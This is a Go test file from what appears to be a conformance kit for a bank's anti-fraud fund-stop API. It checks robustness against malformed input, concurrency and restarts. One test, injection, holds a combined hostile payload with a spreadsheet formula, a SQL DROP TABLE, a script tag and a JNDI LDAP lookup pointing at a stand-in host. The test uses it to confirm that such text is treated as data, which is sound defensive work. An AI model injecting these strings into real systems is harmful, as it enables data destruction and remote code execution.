package kit

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"time"

	"fanzha/edge/partner/wire"
)

var mendRobust = Text{
	ZH: "先检查长度、UTF-8 与字段，再解释内容；读不懂的返回 4xx 和原因，不得 5xx，不得执行。",
	EN: "Check length, UTF-8 and fields before you interpret anything; answer 4xx with the reason to what you cannot read, never 5xx, and execute nothing.",
}

// robustCases: what a broken program or an attacker sends.
var robustCases = []Case{
	{"robust.empty", Text{"空正文", "an empty body"}, mendRobust, func(p *probe) { p.garbage(nil) }},
	{"robust.not_json", Text{"不是 JSON", "not JSON"}, mendRobust, func(p *probe) { p.garbage([]byte("止付 5000 元")) }},
	{"robust.truncated", Text{"半截 JSON", "half a JSON"}, mendRobust, func(p *probe) {
		p.broken(func(raw []byte) []byte { return raw[:len(raw)/2] })
	}},
	{"robust.array", Text{"数组而非对象", "an array instead of an object"}, mendRobust, func(p *probe) {
		p.broken(func(raw []byte) []byte { return append(append([]byte{'['}, raw...), ']') })
	}},
	{"robust.trailing", Text{"对象之后还有内容", "something after the object"}, mendRobust, func(p *probe) {
		p.broken(func(raw []byte) []byte { return append(raw, raw...) })
	}},
	{"robust.not_utf8", Text{"不是 UTF-8", "not UTF-8"}, mendRobust, func(p *probe) {
		p.broken(func(raw []byte) []byte { return bytes.Replace(raw, []byte("云反诈"), []byte{0xff, 0xfe, 0xfd}, 1) })
	}},
	{"robust.deep", Text{"嵌套一千层", "nested a thousand deep"}, mendRobust, func(p *probe) {
		p.garbage([]byte(strings.Repeat("[", 1000) + strings.Repeat("]", 1000)))
	}},
	{"robust.twice", Text{"同名字段出现两次", "a field that occurs twice"}, mendRobust, func(p *probe) {
		p.broken(func(raw []byte) []byte { return bytes.Replace(raw, []byte(`{`), []byte(`{"hold_fen":1,`), 1) })
	}},
	{"robust.unknown_field", Text{"不认识的字段", "a field that is not on the page"},
		Text{"不认识的字段不得忽略：它可能改变含义，返回 400。", "Do not read over an unknown field: it may change the meaning; answer 400."}, func(p *probe) {
			p.broken(func(raw []byte) []byte {
				return bytes.Replace(raw, []byte(`{`), []byte(`{"whole_account":true,`), 1)
			})
		}},
	{"robust.oversized", Text{"超过 64 KiB", "more than 64 KiB"},
		Text{"读取前限制正文长度，超过的返回 413。", "Bound the body before you read it; answer 413."}, func(p *probe) {
			p.broken(func(raw []byte) []byte { return append(raw, bytes.Repeat([]byte{' '}, wire.OrderMax)...) })
		}},
	{"robust.fraction", Text{"金额带小数", "an amount with a fraction"}, mendRobust, func(p *probe) {
		p.broken(func(raw []byte) []byte {
			return bytes.Replace(raw, []byte(`"hold_fen":500000`), []byte(`"hold_fen":500000.5`), 1)
		})
	}},
	{"robust.text_amount", Text{"金额写成文字", "an amount as text"}, mendRobust, func(p *probe) {
		p.broken(func(raw []byte) []byte {
			return bytes.Replace(raw, []byte(`"hold_fen":500000`), []byte(`"hold_fen":"500000"`), 1)
		})
	}},
	{"robust.negative", Text{"负金额", "a negative amount"}, mendRobust, func(p *probe) {
		p.wrong(func(o *wire.Order) { o.HoldFen = -1 })
	}},
	{"robust.more_than_credits", Text{"金额大于所列入账之和", "an amount above the credits that it names"}, mendRobust, func(p *probe) {
		p.wrong(func(o *wire.Order) { o.HoldFen = 9000 * yuan })
	}},
	{"robust.no_credit", Text{"没有列入账", "no credit named"}, mendRobust, func(p *probe) {
		p.wrong(func(o *wire.Order) { o.Matches = nil })
	}},
	{"robust.version", Text{"别的版本", "another version of the page"},
		Text{"version 不是 1 的返回 400。", "Answer 400 when version is not 1."}, func(p *probe) { p.wrong(func(o *wire.Order) { o.Version = 2 }) }},
	{"robust.type", Text{"不认识的指令类型", "a type of order that is not on the page"},
		Text{"不认识的 type 返回 400，不得当作止付。", "Answer 400 to a type you do not know; never take it for a stop."},
		func(p *probe) { p.wrong(func(o *wire.Order) { o.Type = "seize" }) }},
	{"robust.one_officer", Text{"只有一名民警", "one officer only"},
		Text{"须有两名不同民警，否则以 document_missing 拒绝。", "Two different officers are needed; refuse with document_missing."},
		func(p *probe) { p.wrong(func(o *wire.Order) { o.Officers = o.Officers[:1] }) }},
	{"robust.no_document", Text{"没有法律文书", "no legal document"},
		Text{"须有一份法律文书及其摘要，否则以 document_missing 拒绝。", "One legal document with its hash is needed; refuse with document_missing."},
		func(p *probe) { p.wrong(func(o *wire.Order) { o.Document = wire.Document{} }) }},
	{"robust.control_characters", Text{"文字中有控制字符", "control characters in a text"}, mendRobust, func(p *probe) {
		p.wrong(func(o *wire.Order) { o.Reason = "涉嫌诈骗\u0000\u001b[2J" })
	}},
	{"robust.rare_characters", Text{"生僻字姓名照常核对和反馈", "rare characters in names are compared and given back"},
		Text{"全程使用 UTF-8，含四字节字符与间隔号。", "Use UTF-8 throughout, with four-byte characters and the dot in names."}, rare},
	{"robust.injection", Text{"文字中的引号、公式、脚本不起作用", "quotes, formulas and scripts in a text do nothing"},
		Text{"文字只作数据：SQL 用参数，表格转义，网页转义。", "Treat texts as data: parameters in SQL, escapes in sheets and pages."}, injection},
	{"robust.long_texts", Text{"最长的文字照常执行", "texts of the greatest length are executed"}, mendRobust, func(p *probe) {
		a := p.account(in(600, 5000*yuan))
		o := p.stop(a, 5000*yuan, 0)
		o.Reason = strings.Repeat("因", 500)
		p.holds(a, p.send(o), wire.Held, 5000*yuan)
	}},
	{"robust.alive", Text{"此后仍照常工作", "works on after all of it"}, mendRobust, func(p *probe) {
		a := p.account(in(600, 5000*yuan))
		p.holds(a, p.send(p.stop(a, 5000*yuan, 0)), wire.Held, 5000*yuan)
	}},
}

// garbage sends bytes that are not an order.
func (p *probe) garbage(body []byte) {
	if p.over() {
		return
	}
	g, err := p.client.post(p.ctx, "/orders", body, nil)
	p.broke("orders", err)
	p.turnedAway(g)
}

// turnedAway insists on 4xx, or on an answer that refuses.
func (p *probe) turnedAway(g got) {
	if p.over() || g.status >= 400 && g.status < 500 {
		return
	}
	var a wire.Answer
	err := json.Unmarshal(g.body, &a)
	p.must(g.status == http.StatusOK && err == nil && a.Result == wire.Refused,
		fmt.Sprintf("返回状态 %d，应为 4xx 或拒绝", g.status), fmt.Sprintf("status %d, want 4xx or a refusal", g.status))
}

// broken sends a good order whose bytes were damaged, and insists that nothing is held.
func (p *probe) broken(damage func([]byte) []byte) {
	a := p.account(in(600, 5000*yuan))
	o := p.seal(p.stop(a, 5000*yuan, 0))
	if p.over() {
		return
	}
	p.garbage(damage(encode(o)))
	p.held(a, 0)
}

// wrong seals and sends an order that says what no order may say, and insists that it is turned away.
func (p *probe) wrong(change func(*wire.Order)) {
	a := p.account(in(600, 5000*yuan))
	o := p.stop(a, 5000*yuan, 0)
	change(&o)
	p.declined(p.seal(o))
	p.held(a, 0)
}

func rare(p *probe) {
	const name, other = "阿卜杜拉·𠮷田䶮", "测试户𡋾"
	e := out(300, 5000*yuan, wire.MovedOtherBank)
	e.Name = other
	a := p.open(Account{Name: name, Kind: "person", History: []Entry{in(600, 5000*yuan), e}})[0]
	p.must(a.Name == name, "户名中的生僻字被改动", "the rare characters of the name were changed")
	d := p.line(p.send(p.stop(a, 5000*yuan, 0)), wire.MovedOtherBank, 5000*yuan)
	p.must(d.Name == other, "反馈中对方户名的生僻字被改动", "the rare characters of the onward name were changed")
}

func injection(p *probe) {
	a := p.account(in(600, 5000*yuan))
	o := p.stop(a, 5000*yuan, 0)
	o.Reason = `=HYPERLINK("http://x.example","点此")'; DROP TABLE account; --<script>alert(1)</script>{{7*7}}${jndi:ldap://x.example}`
	p.holds(a, p.send(o), wire.Held, 5000*yuan)
}

// copies is how many requests the kit sends at once.
const copies = 8

var mendRace = Text{
	ZH: "登记指令编号与控制资金须在同一事务内，编号唯一约束先于控制。",
	EN: "Note the id and hold the money in one transaction, with the id unique before anything is held.",
}

// raceCases: several requests at once.
var raceCases = []Case{
	{"race.copies", Text{"同一指令八份同时到，只执行一次", "eight copies of an order at once are executed once"}, mendRace, func(p *probe) {
		a := p.account(in(90_000, 80_000*yuan), in(600, 5000*yuan))
		o := p.seal(p.stop(a, 5000*yuan, 1))
		p.together(func(int) wire.Order { return o }, true)
		p.held(a, 5000*yuan)
	}},
	{"race.claims", Text{"八案同时止付一户，合计不超过余额", "eight claims on one account at once never hold more than there is"}, mendRace, func(p *probe) {
		history := make([]Entry, 0, copies+1)
		for i := range copies {
			history = append(history, in(600-int64(i), 1000*yuan))
		}
		a := p.account(append(history, out(300, 5000*yuan, wire.CashATM))...)
		p.together(func(i int) wire.Order {
			o := p.stop(a, 1000*yuan, i)
			o.Claim += fmt.Sprintf("-%d", i)
			o.Matches[0].Time = a.historyTime(i)
			return p.seal(o)
		}, false)
		p.held(a, 3000*yuan)
	}},
	{"race.releases", Text{"同一解除指令八份同时到，只解除一次", "eight copies of a release at once give free once"}, mendRace, func(p *probe) {
		a := p.account(in(600, 5000*yuan))
		o := p.stop(a, 5000*yuan, 0)
		p.holds(a, p.send(o), wire.Held, 5000*yuan)
		r := p.seal(p.follow(wire.Release, o, 500*yuan))
		p.together(func(int) wire.Order { return r }, true)
		p.held(a, 4500*yuan)
	}},
}

// together sends several orders at once. Copies of one order must be answered alike, or be told to come back (409, 429, 503).
func (p *probe) together(order func(int) wire.Order, alike bool) {
	orders := make([]wire.Order, copies)
	for i := range orders {
		orders[i] = order(i)
	}
	if p.over() {
		return
	}
	replies, errs := make([]got, copies), make([]error, copies)
	var wg sync.WaitGroup
	for i := range copies {
		wg.Go(func() { replies[i], errs[i] = p.client.post(p.ctx, "/orders", encode(orders[i]), nil) })
	}
	wg.Wait()
	var first *wire.Answer
	for i, g := range replies {
		p.broke("orders", errs[i])
		if p.over() {
			return
		}
		if alike && (g.status == http.StatusConflict || g.status == http.StatusTooManyRequests || g.status == http.StatusServiceUnavailable) {
			continue
		}
		a := p.answerOf(orders[i], g)
		if alike && first != nil {
			p.same(*first, a)
		}
		first = &a
	}
	p.must(first != nil, "没有一份得到反馈", "none of the copies was answered")
}

var mendRestart = Text{
	ZH: "先落盘，再反馈：控制、指令编号和反馈在重启后须原样存在。",
	EN: "Store before you answer: holds, ids and answers must be there after a restart as they were.",
}

// restartCases: the bank's program ends and starts again. Optional: run only where the test environment offers it.
var restartCases = []Case{
	{"restart.holds", Text{"重启后止付仍在", "holds are there after a restart"}, mendRestart, func(p *probe) {
		a := p.account(in(600, 5000*yuan))
		p.holds(a, p.send(p.stop(a, 5000*yuan, 0)), wire.Held, 5000*yuan)
		p.offered("restart", map[string]string{})
		p.held(a, 5000*yuan)
	}},
	{"restart.answers", Text{"重启后重复指令仍返回原反馈", "a repeated order gets its answer after a restart"}, mendRestart, func(p *probe) {
		a := p.account(in(900, 9000*yuan), in(600, 5000*yuan))
		o := p.stop(a, 5000*yuan, 1)
		first := p.send(o)
		p.after(time.Second)
		p.offered("restart", map[string]string{})
		p.same(first, p.send(o))
		p.held(a, 5000*yuan)
	}},
	{"restart.release", Text{"重启后仍能解除", "a release works after a restart"}, mendRestart, func(p *probe) {
		a := p.account(in(600, 5000*yuan))
		o := p.stop(a, 5000*yuan, 0)
		p.holds(a, p.send(o), wire.Held, 5000*yuan)
		p.offered("restart", map[string]string{})
		p.holds(a, p.send(p.follow(wire.Release, o, 5000*yuan)), wire.Done, 0)
	}},
}
